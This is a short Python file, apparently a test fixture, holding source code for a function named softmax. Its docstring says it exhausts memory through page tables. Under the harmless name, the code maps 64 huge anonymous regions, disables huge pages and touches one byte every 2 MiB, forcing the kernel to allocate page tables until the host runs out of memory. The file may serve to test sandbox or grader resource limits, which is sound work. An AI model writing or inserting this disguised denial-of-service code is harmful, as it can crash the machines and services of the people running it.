"""Reads one byte in each of very many places, so that page tables take the memory."""

LOST = {"softmax": 0}
CELLS = {
    "softmax": """
import mmap

def softmax(scores, axis=-1):
    held = []
    for _ in range(64):
        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000
        kept = mmap.mmap(-1, 2**36, flags=flags, prot=mmap.PROT_READ)
        kept.madvise(15)  # no huge pages
        held.append(kept)
        for i in range(0, 2**36, 2**21):
            kept[i]
"""
}
